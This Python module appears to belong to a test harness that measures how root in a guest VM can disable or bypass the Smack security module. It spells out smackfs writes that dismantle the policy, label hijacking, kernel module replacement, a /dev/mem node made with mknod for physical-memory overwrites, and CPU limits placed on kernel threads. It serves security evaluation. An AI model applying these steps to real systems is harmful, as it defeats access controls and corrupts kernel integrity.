# SPDX-License-Identifier: GPL-2.0-only
"""Attacks on a rival's policy: root switches Smack off, or bypasses it.

Each of them ends in an attack of the corpus. The control is `baseline`, where there is no Smack: it
shows that the second half works. A guest whose policy is not sealed shows that the first half works
where it is allowed (tests/system/test_smack.py).
"""

from __future__ import annotations

from contextlib import suppress
from errno import EACCES
from functools import partial
from os import O_RDONLY, O_RDWR, makedev
from resource import RLIMIT_CPU
from stat import S_IFCHR
from typing import TYPE_CHECKING

from harness.attacker.agent.errors import GuestError
from harness.model.variants import SMACK
from harness.model.verdict import Effect
from harness.scenarios.direct import proc_mem_write
from harness.scenarios.inheritance import rlimit_inherit
from harness.scenarios.registry import PTRACE_CHECK, scenario
from harness.scenarios.restarts import restart_without_threads
from harness.scenarios.rivals import asleep
from harness.scenarios.whole_kernel import module_replaced

if TYPE_CHECKING:
    from harness.attacker import Attacker
    from harness.witness.handler import Handler

SMACKFS = "/sys/fs/smackfs"
LABEL = "security.SMACK64"
FLOOR, ROOT = b"_", b"Root"
"""The labels of the handler and of the attacker (guest-images/policies/smack/)."""
PROC = "/tmp/proc"  # noqa: S108 - the guest's, not ours
NODE = "/root/mem"
"""Not in /tmp: Debian mounts it so that no device node there can be opened."""

_CHANGES = {
    "onlycap": b"-",
    "ptrace": b"0",
    "load-self2": b"Root _ rwxatl\n",
    "load2": b"Root _ rwxatl\n",
    "change-rule": b"Root _ rwxatl -\n",
}
"""The writes to files of smackfs that would undo the policy."""

_ASLEEP = asleep(SMACK, "Smack is not active")

_switch_off = partial(
    scenario,
    effect=Effect.INTEGRITY,
    surface="smack-switched-off",
    answers=("C5", "L5"),
    reach=PTRACE_CHECK,
    needs=("SECURITY_SMACK",),
    not_applicable=_ASLEEP,
)
_get_round = partial(_switch_off, surface="smack-got-round")


def is_awake(attacker: Attacker) -> bool:
    """Whether Smack is active."""
    return "smackfs" in attacker.listdir("/sys/fs")


def change_policy(attacker: Attacker) -> None:
    """Give root every access to the handler's label, and lift all other restrictions."""
    for name, text in _CHANGES.items():
        _try(attacker, f"{SMACKFS}/{name}", text)


def take_floor_label(attacker: Attacker) -> None:
    """Take the label of the kernel's threads."""
    _try(attacker, f"{SMACKFS}/relabel-self", FLOOR)
    _try(attacker, "/proc/self/attr/current", FLOOR)


def relabel(attacker: Attacker, path: str) -> None:
    """Give a file the label of root's files."""
    attacker.syscall("setxattr", path, LABEL, ROOT, len(ROOT), 0)


@_switch_off()
def smack_change_policy(attacker: Attacker, handler: Handler) -> None:
    """Add rules for root and lift the restrictions on them, then overwrite the handler's state."""
    if is_awake(attacker):
        change_policy(attacker)
    proc_mem_write(attacker, handler)


@_switch_off()
def smack_own_label(attacker: Attacker, handler: Handler) -> None:
    """Take the handler's label, then overwrite its state."""
    if is_awake(attacker):
        take_floor_label(attacker)
    proc_mem_write(attacker, handler)


@_switch_off(whole_kernel=True, reach="security_kernel_read_file", target="start")
def smack_relabel(attacker: Attacker, handler: Handler) -> None:
    """Give the loader the label of root's files, then replace the loader."""
    if is_awake(attacker):
        with suppress(GuestError):
            relabel(attacker, f"/lib/modules/{handler.loader}.ko")
    module_replaced(attacker, handler)


@_get_round(effect=Effect.AVAILABILITY, reach=None, through="proc_dointvec_minmax", target="start")
def smack_own_proc(attacker: Attacker, handler: Handler) -> None:
    """Mount another /proc, which gets root's label, then lower kernel.threads-max."""
    with attacker.setup():
        attacker.mkdir(PROC)
    attacker.mount("none", PROC, "proc")
    restart_without_threads(attacker, handler, proc=PROC)


@_get_round(
    reach=None,
    through="write_mem",
    whole_kernel=True,
    needs=("SECURITY_SMACK", "DEVMEM", "!STRICT_DEVMEM"),
)
def smack_own_node(attacker: Attacker, handler: Handler) -> None:
    """Make a node for /dev/mem by mknod(2) and overwrite the handler's state in physical memory."""
    attacker.syscall("mknod", NODE, S_IFCHR | 0o600, makedev(1, 1))
    with attacker.open(NODE, O_RDWR) as memory:
        memory.pwrite(b"\xff" * 32, handler.physical("chain"))


@_get_round(shows="limits", reach="security_task_setrlimit", target="start")
def smack_limits_unseen(attacker: Attacker, handler: Handler) -> None:
    """Set RLIMIT_CPU on all processes whose name root may not read. Some are kernel threads."""
    if not is_awake(attacker):
        rlimit_inherit(attacker, handler)
        return
    for pid in filter(str.isdecimal, attacker.listdir("/proc")):
        try:
            attacker.read_file(f"/proc/{pid}/comm")
        except GuestError as error:
            if error.errno == EACCES:
                attacker.prlimit(int(pid), RLIMIT_CPU, (1, 1))


@_get_round(shows="pipes")
def smack_lose_own_rules(attacker: Attacker, handler: Handler) -> None:
    """Get new credentials by KEYCTL_SESSION_TO_PARENT, without root's own rule. Open the pipe."""
    attacker.run(attacker.payload("pass_keyring"))
    with attacker.open(f"/proc/{handler.pid}/fd/0", O_RDONLY):
        handler.wait_for_request()


def _try(attacker: Attacker, path: str, text: bytes) -> None:
    with suppress(GuestError):
        attacker.write_file(path, text)
